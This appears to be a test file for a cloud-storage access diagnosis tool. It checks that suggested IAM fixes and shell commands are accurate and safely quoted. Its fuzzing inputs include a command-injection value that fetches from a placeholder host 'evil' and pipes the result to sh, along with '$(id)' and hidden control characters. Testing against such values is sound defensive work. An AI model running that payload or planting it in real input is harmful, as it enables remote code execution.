"""What a fix gives to paste: statements that help, commands that a shell cannot misread; else no fix speaks of any."""

from __future__ import annotations

import json
import re
import shlex

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from core.access import DelegatedAccess, Secret, UserAccess
from core.aws.denial import Denial, Layer
from core.aws.iam import Simulation
from core.lights.causes import ALL_ROWS, FOUND, PROFILE, Paste, Row
from core.lights.diagnosis import Asked, diagnose, found
from core.lights.iam_look import simulated_light
from core.lights.outcome import Outcome
from core.lights.target import Target
from core.lights.words import Words, fix_of
from core.location import S3Location
from core.needs import OPERATIONS, Operation

ACCESS = UserAccess("AKIAIOSFODNN7EXAMPLE", Secret("x" * 40))
REAL = Target(
    location=S3Location("datalake", "projects/farm-animals/"),
    access=ACCESS,
    region="eu-central-1",
    role=DelegatedAccess("arn:aws:iam::111122223333:role/Lightly", Secret("canary-external-id")),
)
USER = "arn:aws:iam::111122223333:user/lightly"
KEY_ARN = "arn:aws:kms:eu-central-1:111122223333:key/1234"
DIRECTORY = S3Location("d--euw3-az1--x-s3", "")
GIVEN = {"seconds", "given", "detail", "change", "header", "said", "why", "exception"}
"""Words that the caller of `found` adds."""

ALIAS = "arn:aws:kms:eu-central-1:111122223333:alias/farm"
ACCESS_POINT = S3Location("my-ap-abcdefghijklmnopqrstuvwxyz12-s3alias", "p/")
UNNAMED = "on the resource associated with this ciphertext"
PROMISES = re.compile(r"\bthis statement\b|\bpolicy this\b|\bas this\b|\bwith this,|\breads so\b|:$")
"""How a fix speaks of what is pasted below it."""


@pytest.mark.parametrize(
    ("operation", "sentence", "changes"),
    [
        (Operation.READ, f"kms:Decrypt {UNNAMED}", {}),
        (Operation.READ, f"kms:Decrypt {UNNAMED} because no permissions boundary allows the kms:Decrypt action", {}),
        (Operation.READ, f"kms:Decrypt {UNNAMED} because no session policy allows the kms:Decrypt action", {}),
        (Operation.READ, f"kms:Decrypt {UNNAMED}", {"kms_key_arn": ALIAS}),
        (Operation.READ, "s3:GetObject because no identity-based policy allows the s3:GetObject action", {}),
        (Operation.READ, "s3:GetObject with an explicit deny in a permissions boundary", {"location": REAL.location}),
        (Operation.READ, "s3:GetObject with an explicit deny in a session policy", {"location": REAL.location}),
        (Operation.LIST, "s3express:CreateSession with an explicit deny", {"location": DIRECTORY}),
    ],
)
def test_where_no_statement_would_help_none_is_pasted_and_none_is_promised(
    operation: Operation, sentence: str, changes: dict[str, object]
) -> None:
    target = Target(**{"location": ACCESS_POINT, "access": ACCESS, **changes})  # type: ignore[arg-type]
    message = f"User: {USER} is not authorized to perform: {sentence}"
    outcome = Outcome(call="x", status=403, code="AccessDenied", message=message, request_id="1")
    verdict = diagnose(operation, outcome, Asked(target, "eu-central-1"))
    assert verdict.paste is None
    assert verdict.fix
    assert not PROMISES.search(verdict.fix)
    assert sentence.split(maxsplit=1)[0] in verdict.fix


_NAMES = st.text(max_size=8) | st.sampled_from(
    ["a b", "x;curl${IFS}evil|sh #", "$(id)", "`id`", "'", '"', "-x", "\n", "\x1b[2J", "\u202e", "~", "*", "{role}"]
)
_TARGETS = st.builds(
    Target,
    location=st.builds(
        S3Location, st.sampled_from(["datalake", ACCESS_POINT.bucket, "d--euw3-az1--x-s3", "a;b", "$(x)"]), _NAMES
    ),
    access=st.just(ACCESS),
    endpoint_url=st.none() | st.just("http://127.0.0.1:9000") | _NAMES,
    kms_key_arn=st.none() | st.sampled_from([KEY_ARN, ALIAS, "x"]),
    role=st.none()
    | st.builds(
        DelegatedAccess,
        _NAMES | _NAMES.map(lambda name: f"arn:aws:iam::111122223333:role/{name}"),
        st.just(Secret("canary-external-id")),
    ),
)
_DENIALS = st.none() | st.builds(
    Denial,
    principal=st.sampled_from([USER, "somebody", "arn:x", "arn:aws:sts::111122223333:assumed-role/r/s"]),
    action=st.sampled_from(
        ["s3:ListBucket", "s3:GetObject", "kms:Decrypt", "kms:DescribeKey", "sts:AssumeRole", "sts:GetSessionToken"]
    ),
    resource=st.none() | st.sampled_from([KEY_ARN, ALIAS, "arn:aws:iam::111122223333:role/r", ""]),
    layer=st.none() | st.sampled_from(Layer),
    explicit=st.booleans(),
)


def _situation(operation: Operation, target: Target, denial: Denial | None, principal: str | None, key: str) -> Words:
    given = {**{word: f"{word}-given" for word in GIVEN}, "key": key}
    asked = Asked(target, "eu-central-1", principal)
    return Words(operation, asked, Outcome(call="x", status=403, code="AccessDenied"), denial, given)


@given(
    row=st.sampled_from([row for row in ALL_ROWS if row not in PROFILE]),
    operation=st.sampled_from(OPERATIONS),
    target=_TARGETS,
    denial=_DENIALS,
    principal=st.none() | st.sampled_from([USER, "somebody"]),
    key=_NAMES,
)
@example(  # what is no role is not allowed to be assumed
    row=next(row for row in ALL_ROWS if row.paste is Paste.IDENTITY),
    operation=Operation.LIST,
    target=Target(location=S3Location("datalake", ""), access=ACCESS),
    denial=Denial(USER, "sts:AssumeRole", ALIAS, None, explicit=False),
    principal=None,
    key="",
)
def test_no_fix_promises_what_there_is_not(
    row: Row, operation: Operation, target: Target, denial: Denial | None, principal: str | None, key: str
) -> None:
    fix, pasted = fix_of(row, _situation(operation, target, denial, principal, key))
    assert (pasted is None) <= (not PROMISES.search(fix))
    assert (row.paste is None) <= (pasted is None)
    if pasted is not None and row.paste is not Paste.COMMAND:
        document = json.loads(pasted)
        assert denial is None or not denial.explicit or row.paste in {Paste.TRUST, Paste.TRUST_STATEMENT}
        assert ALIAS not in pasted
        assert ACCESS_POINT.bucket not in pasted
        assert set(document) >= {"Version", "Statement"} or document["Effect"] == "Allow"


@pytest.mark.parametrize(
    "row", [row for row in ALL_ROWS if row.paste is None], ids=lambda row: f"{row.cause}-{ALL_ROWS.index(row)}"
)
def test_a_row_without_a_paste_speaks_of_none(row: Row) -> None:
    assert not PROMISES.search(row.fix)


@given(row=st.sampled_from([row for row in ALL_ROWS if row.command]), target=_TARGETS, key=_NAMES)
def test_a_name_stays_one_word_of_a_command(row: Row, target: Target, key: str) -> None:
    words = _situation(Operation.WRITE, target, None, USER, key)
    command = fix_of(row, words)[1]
    if command is None:
        return
    assert command.isprintable()
    due = [word for word in (row.command or "").split() if not word.startswith("[") or target.endpoint_url]
    pasted = shlex.split(command)
    assert command == shlex.join(pasted), "nothing in it is for the shell"
    assert len(pasted) == len(due)
    for word, template in zip(pasted, due, strict=True):
        before, name, after = re.fullmatch(r"\[?([^{]*)(?:{(\w+)}([^\]]*))?\]?", template).groups()  # type: ignore[union-attr]
        assert word == (f"{before}{words[name]}{after}" if name else template)


HOSTILE = "x;curl${IFS}evil|sh #"


def test_a_roles_name_cannot_end_the_command_it_stands_in() -> None:
    role = DelegatedAccess(f"arn:aws:iam::111122223333:role/{HOSTILE}", Secret("canary"))
    target = Target(location=REAL.location, access=ACCESS, role=role)
    command = found("max-session-too-short", Operation.LIST, Asked(target)).paste
    assert shlex.split(command or "")[3:] == [f"--role-name={HOSTILE}", "--max-session-duration", "43200"]


@pytest.mark.parametrize("name", ["a\nb", "\x1b[2J", "a\tb", "\u202ea"])
def test_a_command_with_what_cannot_be_seen_is_not_given(name: str) -> None:
    target = Target(location=S3Location("datalake", f"{name}/"), access=ACCESS)
    left = found("probe-left-behind/object", Operation.WRITE, Asked(target), key=f"{name}/probe")
    proof = found("write-unproven/off", Operation.WRITE, Asked(target))
    assert (left.paste, proof.paste) == (None, None)
    assert not PROMISES.search(f"{proof.fix}")


def test_a_test_object_is_deleted_where_it_is() -> None:
    target = Target(location=REAL.location, access=ACCESS, endpoint_url="http://127.0.0.1:9000")
    asked = {"key": "-x/it's"}
    assert shlex.split(found("probe-left-behind/object", Operation.WRITE, Asked(target), **asked).paste or "") == [
        *("aws", "s3api", "delete-object", "--bucket", "datalake", "--key=-x/it's"),
        "--endpoint-url=http://127.0.0.1:9000",
    ]
    at_aws = found("probe-left-behind/object", Operation.WRITE, Asked(REAL), **asked).paste
    assert "endpoint" not in (at_aws or "")


@pytest.mark.parametrize("role_arn", ["my-role-name-without-colons", "arn", "", "arn:aws", "::"])
def test_what_is_no_arn_of_a_role_is_still_diagnosed(role_arn: str) -> None:
    target = Target(location=REAL.location, access=ACCESS, role=DelegatedAccess(role_arn, Secret("canary")))
    refused = f"User: {USER} is not authorized to perform: sts:AssumeRole"
    for message in ("Access denied", f"{refused} because no identity-based policy allows the sts:AssumeRole action"):
        outcome = Outcome(call="AssumeRole", status=403, code="AccessDenied", message=message)
        verdict = diagnose(Operation.LIST, outcome, Asked(target, "eu-central-1"))
        assert verdict.cause in {"assume-role-refused", "assume-role-caller-side"}
        assert '"Resource"' not in (verdict.paste or "")


def test_a_key_policy_that_denies_gets_no_allow() -> None:
    message = (
        f'User: {USER} is not authorized to perform: kms:Decrypt on resource: "{KEY_ARN}" with an explicit deny in a '
        "resource-based policy"
    )
    outcome = Outcome(call="GetObject", status=403, code="AccessDenied", message=message, request_id="1")
    verdict = diagnose(Operation.READ, outcome, Asked(REAL, "eu-central-1"))
    assert (verdict.cause, verdict.paste) == ("kms-key-policy", None)
    assert "out of that Deny" in (verdict.fix or "")


def test_a_role_that_lets_a_caller_in_is_not_said_to_let_in_everybody() -> None:
    verdict = found("external-id-not-required", Operation.LIST, Asked(REAL, "eu-central-1"), role="the role")
    assert "this caller" in verdict.says
    assert "other statements stay as they are" in (verdict.fix or "")
    statement = json.loads(verdict.paste or "")
    assert statement["Condition"] == {"StringEquals": {"sts:ExternalId": "EXTERNAL-ID"}}


@pytest.mark.parametrize(
    ("principal", "pastes"),
    [(USER, True), (None, False), ("somebody", False), ("arn:aws:iam:::user/of-ceph", False)],
)
def test_a_principal_is_named_in_a_policy_only_where_it_has_an_account(principal: str | None, pastes: bool) -> None:
    message = "The ciphertext refers to a customer master key that does not exist"
    outcome = Outcome(call="GetObject", status=403, code="AccessDenied", message=message, request_id="1")
    verdict = diagnose(Operation.READ, outcome, Asked(REAL, "eu-central-1", principal))
    assert verdict.cause == "kms-key-policy"
    assert (verdict.paste is not None) is pastes
    assert bool(PROMISES.search(verdict.fix or "")) is pastes


def test_the_command_that_proves_write_names_the_server_and_quotes_the_folder() -> None:
    target = Target(location=S3Location("datalake", "a b/"), access=ACCESS, endpoint_url="http://127.0.0.1:9000")
    assert found("write-unproven/off", Operation.WRITE, Asked(target)).paste == (
        "bucketlight check 's3://datalake/a b/' --needs list,read,write --write-probe real "
        "--endpoint-url=http://127.0.0.1:9000"
    )


@pytest.mark.parametrize("changes", [{"kms_key_arn": KEY_ARN}, {"role": REAL.role}], ids=["key", "role"])
@pytest.mark.parametrize("name", [name for name in FOUND if name.startswith("write-unproven")])
def test_what_a_bare_address_would_not_prove_is_to_be_proven_in_the_dataset(
    name: str, changes: dict[str, object]
) -> None:
    target = Target(location=REAL.location, access=ACCESS, **changes)  # type: ignore[arg-type]
    verdict = found(name, Operation.WRITE, Asked(target))
    assert verdict.paste is None
    assert verdict.fix == "Prove it in the app (key p), or with `--write-probe real` in a check of this dataset."


def test_a_boundary_that_denies_in_the_simulator_is_not_to_be_mended_by_an_allow() -> None:
    asked = Asked(Target(location=REAL.location, access=ACCESS), "eu-central-1", USER)
    for decision, pastes in (("explicitDeny", False), ("implicitDeny", True)):
        light = simulated_light(Operation.READ, Simulation(decision, by_boundary=True), asked)
        assert light.cause == "permissions-boundary"
        assert (light.paste is not None) is pastes
        assert bool(PROMISES.search(light.fix or "")) is pastes
